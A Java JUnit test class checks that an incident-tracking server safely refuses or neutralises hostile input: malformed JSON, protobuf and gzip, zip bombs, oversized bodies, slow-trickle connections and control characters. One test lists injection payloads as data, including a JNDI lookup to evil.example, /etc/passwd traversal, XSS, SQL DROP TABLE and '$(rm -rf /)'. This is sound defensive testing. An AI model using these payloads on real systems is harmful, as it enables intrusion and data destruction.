package dev.naosu.app.serve;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.naosu.access.Role;
import dev.naosu.app.web.TestHouse;
import dev.naosu.cycle.incident.Incident;
import dev.naosu.cycle.incident.Incidents;
import dev.naosu.redaction.Redaction;
import io.opentelemetry.proto.collector.logs.v1.ExportLogsServiceRequest;
import io.opentelemetry.proto.collector.logs.v1.ExportLogsServiceResponse;
import io.opentelemetry.proto.common.v1.AnyValue;
import io.opentelemetry.proto.common.v1.KeyValue;
import io.opentelemetry.proto.logs.v1.LogRecord;
import io.opentelemetry.proto.logs.v1.ResourceLogs;
import io.opentelemetry.proto.logs.v1.ScopeLogs;
import io.opentelemetry.proto.resource.v1.Resource;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever is sent to a running server: who sends it is told what is wrong, what is good is kept,
/// and the server goes on.
@Timeout(60)
class HostileInputTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String PROTOBUF = "application/x-protobuf";
  private static final String EVENTS = "/api/v1/events";
  private static final String LOGS = "/v1/logs";
  private static final int MEBIBYTE = 1024 * 1024;

  private TestHouse house;

  @BeforeEach
  void open() throws IOException {
    house = new TestHouse(Decoders.all(new Redaction(false), Senders.usual())).start();
  }

  /// However it went, the next sender is served.
  @AfterEach
  void servesTheNextAndCloses() throws Exception {
    try (TestHouse open = house) {
      HttpResponse<String> next = event(Optional.of("after-all"), "shop", "after all");
      assertThat(next.statusCode()).as(next.body()).isEqualTo(202);
      assertThat(open.get(Role.VIEWER, "/health").statusCode()).isEqualTo(200);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "[{]",
        "nul",
        "\"text\"",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "{\"service\":1e99999999}",
        "{\"service\":\"a\",\"service\":\"b\"}",
        "{} {}",
        "{\"kind\":\"exception\"}",
        "\u0000",
        "{\"service\":\"shop\",\"kind\":\"exception\",\"message\":\"\\ud800\",\"trace\":7}"
      })
  void json_that_is_none_is_refused_with_what_is_wrong(String body) throws Exception {
    HttpResponse<String> answer = post(EVENTS, "application/json", "", body.getBytes(UTF_8));
    refused(answer, 400);
    assertThat(house.incidents.counts()).isEmpty();
    // there, unknown fields are allowed
    assertThat(post(LOGS, "application/json", "", body.getBytes(UTF_8)).statusCode())
        .isIn(200, 400);
  }

  @Test
  void protobuf_that_is_none_is_refused_in_protobuf() throws Exception {
    byte[] good = logs("shop", "shop.AException: x\n\tat shop.Cart.total(Cart.java:1)");
    for (byte[] each :
        List.of(
            new byte[] {(byte) 0xff},
            Arrays.copyOf(good, good.length - 3),
            "{\"resourceLogs\":[]}".getBytes(UTF_8),
            new byte[] {10, (byte) 0xff, (byte) 0xff, (byte) 0xff, (byte) 0xff, 0x7f})) {
      HttpResponse<String> answer = post(LOGS, PROTOBUF, "", each);
      assertThat(answer.statusCode()).isEqualTo(400);
      assertThat(answer.headers().firstValue("Content-Type")).contains(PROTOBUF);
      assertThat(answer.body()).contains("no OTLP in protobuf");
    }
  }

  @Test
  void gzip_that_is_cut_off_none_or_packed_twice_is_refused() throws Exception {
    byte[] packed = zipped(oneEvent("shop", "x"));
    refused(
        post(EVENTS, "application/json", "gzip", Arrays.copyOf(packed, packed.length / 2)), 400);
    refused(
        post(EVENTS, "application/json", "gzip", Arrays.copyOf(packed, packed.length - 8)), 400);
    refused(post(EVENTS, "application/json", "gzip", new byte[0]), 400);
    refused(post(EVENTS, "application/json", "gzip", oneEvent("shop", "x")), 400);
    refused(post(EVENTS, "application/json", "gzip", zipped(packed)), 400);
    refused(post(EVENTS, "application/json", "gzip, gzip", zipped(packed)), 415);
    refused(post(EVENTS, "application/json", "br", packed), 415);
    assertThat(post(EVENTS, "application/json", "gzip", packed).statusCode()).isEqualTo(202);
  }

  @Test
  void a_bomb_is_not_unpacked_beyond_the_limit() throws Exception {
    byte[] bomb = zipped(new byte[200 * MEBIBYTE]);
    assertThat(bomb.length).isLessThan(MEBIBYTE);
    for (String path : List.of(EVENTS, LOGS, "/v1/traces")) {
      assertThat(post(path, "application/json", "gzip", bomb).statusCode()).isEqualTo(413);
      assertThat(post(path, "application/json", "gzip", zipped(bomb)).statusCode()).isEqualTo(400);
    }
    assertThat(post("/api/v1/junit?service=shop", "application/xml", "gzip", bomb).statusCode())
        .isEqualTo(413);
  }

  @Test
  void a_message_of_ten_megabytes_is_too_large_and_one_of_seven_is_cut() throws Exception {
    HttpResponse<String> answer = event(Optional.empty(), "shop", "x".repeat(10 * MEBIBYTE));
    refused(answer, 413);
    assertThat(event(Optional.empty(), "shop", "y".repeat(7 * MEBIBYTE)).statusCode())
        .isEqualTo(202);
    assertThat(house.incidents.signals(1, 1).getFirst().message()).hasSize(4_000);
    assertThat(post(LOGS, PROTOBUF, "", logs("shop", "z".repeat(10 * MEBIBYTE))).statusCode())
        .isEqualTo(413);
  }

  @Test
  void text_in_another_encoding_is_refused_or_read_right() throws Exception {
    String event = new String(oneEvent("shop", "größer"), UTF_8);
    refused(post(EVENTS, "application/json", "", event.getBytes(ISO_8859_1)), 400);
    assertThat(post(EVENTS, "application/json", "", event.getBytes(UTF_16)).statusCode())
        .isEqualTo(202);
    assertThat(house.incidents.signals(1, 1).getFirst().message()).isEqualTo("größer");
    refused(post(EVENTS, "text/plain", "", event.getBytes(UTF_8)), 415);
    byte[] noLetters = {0, 0, 0, '{', -1, -1, -1, -1};
    refused(post(EVENTS, "application/json", "", noLetters), 400);
    HttpResponse<String> logs = post(LOGS, "application/json", "", noLetters);
    assertThat(logs.statusCode()).isEqualTo(400);
    assertThat(logs.body()).contains("\"remedy\"");
  }

  @Test
  void of_a_batch_the_good_part_is_kept_and_the_rest_is_told() throws Exception {
    byte[] batch =
        ExportLogsServiceRequest.parseFrom(
                logs("shop", "shop.AException: x\n\tat shop.Cart.total(Cart.java:1)"))
            .toBuilder()
            .mergeFrom(logs("", "shop.BException: x\n\tat shop.Cart.total(Cart.java:1)"))
            .mergeFrom(logs("a\u0007b", "shop.BException: x\n\tat shop.Cart.total(Cart.java:1)"))
            .build()
            .toByteArray();
    HttpResponse<byte[]> answer =
        house.client.send(
            request(LOGS, PROTOBUF, "").POST(HttpRequest.BodyPublishers.ofByteArray(batch)).build(),
            HttpResponse.BodyHandlers.ofByteArray());
    assertThat(answer.statusCode()).isEqualTo(200);
    ExportLogsServiceResponse told = ExportLogsServiceResponse.parseFrom(answer.body());
    assertThat(told.getPartialSuccess().getRejectedLogRecords()).isEqualTo(2);
    assertThat(told.getPartialSuccess().getErrorMessage()).contains("OTEL_SERVICE_NAME");
    assertThat(incidents()).hasSize(1);
  }

  @Test
  void what_comes_twice_counts_once_and_what_comes_late_is_in_its_time() throws Exception {
    Instant now = TestHouse.NOON;
    assertThat(at("e2", now.minusSeconds(10)).statusCode()).isEqualTo(202);
    assertThat(at("e1", now.minusSeconds(90)).statusCode()).isEqualTo(202);
    assertThat(TestHouse.json(at("e2", now.minusSeconds(10))).path("duplicates").asInt())
        .isEqualTo(1);
    // clocks that are days off
    assertThat(at("e3", now.plus(Duration.ofDays(3))).statusCode()).isEqualTo(202);
    assertThat(at("e4", now.minus(Duration.ofDays(3))).statusCode()).isEqualTo(202);
    Incident incident = incidents().getFirst();
    assertThat(incidents()).hasSize(1);
    assertThat(incident.signals()).isEqualTo(4);
    assertThat(incident.lastSeen()).isBeforeOrEqualTo(now);
    refused(at("e5", Instant.parse("1970-01-01T00:00:00Z")), 400);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "'; DROP TABLE naosu.incident; --",
        "%s%n%x%d",
        "{0} {} #{7*7} ${7*7} {{7*7}}",
        "\u202egnp.exe",
        "a\u200b\ufeffb",
        "{\"a\":1}",
        "$(rm -rf /) `id` | ; &"
      })
  void hostile_text_is_shown_as_text(String hostile) throws Exception {
    String wild = hostile + "\u001b[31m\u001b]0;title\u0007\u0000\r";
    ObjectNode event = (ObjectNode) JSON.readTree(oneEvent(hostile, wild));
    event.put("version", hostile).put("environment", hostile);
    event.put("trace", "a.B" + wild + "\n\tat " + hostile + ".c(D.java:1)\n" + wild);
    event.putObject("attributes").put("a" + hostile, wild);
    HttpResponse<String> taken =
        post(EVENTS, "application/json", "", JSON.writeValueAsBytes(event));
    assertThat(taken.statusCode()).as(taken.body()).isEqualTo(202);
    String token = "Bearer " + house.token(Role.VIEWER);
    for (String page :
        List.of(
            "/incidents", "/incidents/1", "/api/v1/incidents", "/api/v1/incidents/1", "/metrics")) {
      HttpResponse<String> shown =
          house.send(house.request(page).header("Authorization", token).GET());
      assertThat(shown.statusCode()).as(page).isEqualTo(200);
      assertThat(shown.body()).as(page).doesNotContain("\u001b").doesNotContain("\u0000");
      String type = shown.headers().firstValue("Content-Type").orElse("");
      if (type.contains("html")) {
        assertThat(shown.body()).as(page).doesNotContain("<script>alert");
      } else {
        assertThat(type).as(page).matches("(?:application/json|text/plain).*");
        assertThat(shown.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
      }
    }
    assertThat(
            TestHouse.json(house.get(Role.VIEWER, "/api/v1/incidents"))
                .path("incidents")
                .get(0)
                .path("service")
                .asText())
        .isEqualTo(hostile);
  }

  @Test
  void control_characters_in_a_name_are_refused() throws Exception {
    for (String each : List.of("a\u001b[2J", "a\nb", "\u0000", " ", "x".repeat(201))) {
      refused(event(Optional.empty(), each, "x"), 400);
    }
  }

  @Test
  void made_up_services_and_causes_open_no_more_incidents_than_people_can_look_at()
      throws Exception {
    for (int i = 0; i < 3; i++) {
      assertThat(many(i, true).statusCode()).isEqualTo(202);
      assertThat(many(i, false).statusCode()).isEqualTo(202);
    }
    List<Incident> all = incidents();
    assertThat(all).hasSizeLessThan(310);
    assertThat(all.stream().map(each -> each.fingerprint().title()))
        .contains("too many new causes at once");
    long counted = all.stream().mapToLong(Incident::signals).sum();
    assertThat(counted).isEqualTo(6_000);
  }

  @Test
  void a_body_that_trickles_in_does_not_hold_the_server_up() throws Exception {
    try (Socket slow = connected()) {
      slow.setSoTimeout(1);
      OutputStream out = slow.getOutputStream();
      out.write(head("Transfer-Encoding: chunked"));
      out.flush();
      boolean isEnded = false;
      for (int i = 0; i < 150 && !isEnded; i++) {
        isEnded = isEndedAfterAByte(slow, out);
        Thread.sleep(100);
      }
      assertThat(isEnded).as("ended by the server within 15 seconds").isTrue();
    }
  }

  @Test
  void who_goes_away_in_the_middle_of_a_body_leaves_nothing() throws Exception {
    for (String each : List.of("Transfer-Encoding: chunked", "Content-Length: 4000")) {
      try (Socket gone = connected()) {
        gone.getOutputStream().write(head(each));
        gone.getOutputStream().write("5\r\n{\"ser\r\n".getBytes(UTF_8));
        gone.getOutputStream().flush();
      }
    }
    assertThat(house.incidents.counts()).isEmpty();
  }

  private Socket connected() throws IOException {
    return new Socket(InetAddress.getLoopbackAddress(), house.at("/").getPort());
  }

  private static boolean isEndedAfterAByte(Socket socket, OutputStream out) {
    try {
      out.write("1\r\n \r\n".getBytes(UTF_8));
      out.flush();
      return socket.getInputStream().read() >= 0;
    } catch (SocketTimeoutException _) {
      return false;
    } catch (IOException _) {
      return true;
    }
  }

  private byte[] head(String length) {
    return ("POST "
            + EVENTS
            + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer "
            + house.token(Role.OPERATOR)
            + "\r\n"
            + length
            + "\r\n\r\n")
        .getBytes(UTF_8);
  }

  private HttpResponse<String> many(int round, boolean isServices) throws Exception {
    ArrayNode list = JSON.createArrayNode();
    for (int i = 0; i < 1_000; i++) {
      String word = Integer.toString(round * 1_000 + i, 36);
      ObjectNode event = list.addObject();
      event.put("service", isServices ? "service " + word : "shop");
      event.put("kind", "exception").put("message", "x").put("id", round + "-" + isServices + word);
      event.put("trace", "shop.E" + word + "Exception\n\tat shop.Cart.total(Cart.java:1)");
    }
    return post(EVENTS, "application/json", "", JSON.writeValueAsBytes(list));
  }

  private List<Incident> incidents() {
    return house.incidents.list(Incidents.Filter.ALL, Optional.empty(), 10_000);
  }

  private HttpResponse<String> at(String id, Instant at) throws Exception {
    ObjectNode event = (ObjectNode) JSON.readTree(oneEvent("shop", "x"));
    event.put("id", id).put("at", at.toString());
    return post(EVENTS, "application/json", "", JSON.writeValueAsBytes(event));
  }

  private HttpResponse<String> event(Optional<String> id, String service, String message)
      throws Exception {
    ObjectNode event = (ObjectNode) JSON.readTree(oneEvent(service, message));
    id.ifPresent(given -> event.put("id", given));
    return post(EVENTS, "application/json", "", JSON.writeValueAsBytes(event));
  }

  private HttpResponse<String> post(String path, String type, String encoding, byte[] body)
      throws IOException, InterruptedException {
    return house.send(
        request(path, type, encoding).POST(HttpRequest.BodyPublishers.ofByteArray(body)));
  }

  private HttpRequest.Builder request(String path, String type, String encoding) {
    HttpRequest.Builder request =
        house
            .request(path)
            .header("Authorization", "Bearer " + house.token(Role.OPERATOR))
            .header("Content-Type", type);
    return encoding.isEmpty() ? request : request.header("Content-Encoding", encoding);
  }

  /// With what is wrong and what to do about it.
  private static void refused(HttpResponse<String> answer, int status) throws IOException {
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
    JsonNode problem = JSON.readTree(answer.body());
    assertThat(answer.headers().firstValue("Content-Type").orElse("")).contains("problem+json");
    assertThat(problem.path("detail").asText()).isNotBlank();
    assertThat(problem.path("remedy").asText()).isNotBlank();
  }

  private static byte[] oneEvent(String service, String message) throws IOException {
    ObjectNode event = JSON.createObjectNode();
    event.put("service", service).put("kind", "exception").put("message", message);
    return JSON.writeValueAsBytes(event);
  }

  private static byte[] logs(String service, String body) {
    return ExportLogsServiceRequest.newBuilder()
        .addResourceLogs(
            ResourceLogs.newBuilder()
                .setResource(
                    Resource.newBuilder()
                        .addAttributes(
                            KeyValue.newBuilder()
                                .setKey("service.name")
                                .setValue(AnyValue.newBuilder().setStringValue(service))))
                .addScopeLogs(
                    ScopeLogs.newBuilder()
                        .addLogRecords(
                            LogRecord.newBuilder()
                                .setSeverityText("ERROR")
                                .setBody(AnyValue.newBuilder().setStringValue(body)))))
        .build()
        .toByteArray();
  }

  private static byte[] zipped(byte[] body) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream zip = new GZIPOutputStream(bytes)) {
      zip.write(body);
    }
    return bytes.toByteArray();
  }
}
